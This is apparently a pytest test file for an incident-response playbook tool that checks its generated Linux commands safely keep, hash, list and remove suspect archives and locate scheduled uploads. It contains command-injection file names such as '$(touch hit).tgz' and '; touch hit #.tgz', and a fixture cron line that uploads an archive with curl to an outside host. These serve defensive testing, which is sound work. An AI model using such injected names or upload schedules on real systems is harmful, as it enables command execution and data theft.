"""Commands for Linux that run here, run: they keep, hash, list and remove the very file, whatever its name."""

import hashlib
import os
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

from exfilwatch_playbooks.response.plan import PlanStep, plan_of

from .known import known

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="commands for Linux")
NAMES = [
    "plain.tgz",
    "two words.tgz",
    "it's.tgz",
    'a"b.tgz',
    "$(touch hit).tgz",
    "`touch hit`.tgz",
    "; touch hit #.tgz",
    "-rf.tgz",
    "a:b.tgz",
    "*.tgz",
    "ü東京.tgz",
]
CONTENT = b"what left"


@pytest.fixture(params=NAMES)
def archive(request: pytest.FixtureRequest, tmp_path: Path) -> Path:
    """An archive of one file, beside another one that nothing may touch."""
    folder = tmp_path / "of users"
    folder.mkdir()
    (folder / "beside.tgz").write_bytes(b"another")
    (tmp_path / "report.txt").write_bytes(CONTENT)
    path = folder / str(request.param)
    with tarfile.open(path, "w:gz") as made:
        made.add(tmp_path / "report.txt", "report.txt")
    os.utime(path, (1_700_000_000, 1_700_000_000))
    return path


def step(archive: Path, title: str) -> PlanStep:
    plan = plan_of(
        [("archive_then_network", known(archive_path=str(archive), source_path=str(archive), product="linux"))]
    )
    return next(step for step in plan.steps if step.title == title)


def ran(command: str, room: Path, given: str = "") -> str:
    """What a command says, run in an empty folder with EVIDENCE set."""
    room.mkdir(exist_ok=True)
    where = {"PATH": os.environ["PATH"], "EVIDENCE": str(room / "kept here"), "LC_ALL": "C.UTF-8"}
    done = subprocess.run(["bash", "-c", command], cwd=room, env=where, input=given, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    return done.stdout


@pytest.mark.parametrize("title", ["Keep the archive", "Keep the files with their hashes"])
def test_a_file_is_kept_with_its_hash_and_times(archive, tmp_path, title):
    said = "".join(ran(command.text, tmp_path / "room") for command in step(archive, title).commands)
    kept = tmp_path / "room" / "kept here"
    assert (kept / archive.name).read_bytes() == archive.read_bytes()
    assert (kept / archive.name).stat().st_mtime == 1_700_000_000
    assert kept.stat().st_mode & 0o777 == 0o700
    assert "2023-11-14" in said
    assert hashlib.sha256(archive.read_bytes()).hexdigest() in (kept / "SHA256SUMS").read_text()
    checked = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=kept, capture_output=True, check=True, text=True)
    assert checked.stdout.count("OK") == 1
    assert {path.name for path in (tmp_path / "room").iterdir()} == {"kept here"}


def test_an_archives_contents_are_listed(archive, tmp_path):
    (command,) = step(archive, "List what is in it").commands
    assert "report.txt" in ran(command.text, tmp_path / "room")


@pytest.mark.parametrize(("answer", "there"), [("n\n", True), ("y\n", False)])
def test_an_archive_is_removed_only_when_the_person_says_so(archive, tmp_path, answer, there):
    (command,) = step(archive, "Remove the archive and its tool").commands
    ran(command.text, tmp_path / "room", answer)
    assert archive.exists() is there
    assert (archive.parent / "beside.tgz").exists()
    assert [*(tmp_path / "room").iterdir()] == []


def test_a_process_is_recorded_and_ended(tmp_path):
    sleeper = subprocess.Popen(["sleep", "60"])
    try:
        plan = plan_of([("?", known(process_id=str(sleeper.pid), product="linux"))])
        volatile = next(step for step in plan.steps if step.title == "Keep what is volatile").commands[0]
        assert "sleep" in ran(volatile.text, tmp_path / "room")
        look, end = (next(step for step in plan.steps if step.title == "End the process")).commands
        assert "sleep 60" in ran(look.text, tmp_path / "room")
        ran(end.text, tmp_path / "room")
        assert sleeper.wait(10) == -15
    finally:
        sleeper.kill()


@pytest.mark.parametrize("name", ["cron.d/backup", "systemd/system/upload.service"])
def test_what_mentions_the_destination_is_found_in_schedules(tmp_path, name):
    """In a folder in the place of /etc."""
    etc = tmp_path / "etc"
    for folder in ("cron.d", "cron.hourly", "cron.daily", "systemd/system"):
        (etc / folder).mkdir(parents=True)
    (etc / "crontab").write_text("")
    (tmp_path / "spool").mkdir()
    (etc / name).write_text("0 * * * * root curl -T /tmp/q.tgz https://files.example/in\n")
    plan = plan_of([("scheduled_upload", known(destination_name="files.example", product="linux"))])
    (command,) = next(step for step in plan.steps if step.title == "Stop the schedule").commands
    text = command.text.replace("/etc/", f"{etc}/").replace("/var/spool/cron", str(tmp_path / "spool"))
    assert ran(text, tmp_path / "room").startswith(f"{etc}/{name}:1:")
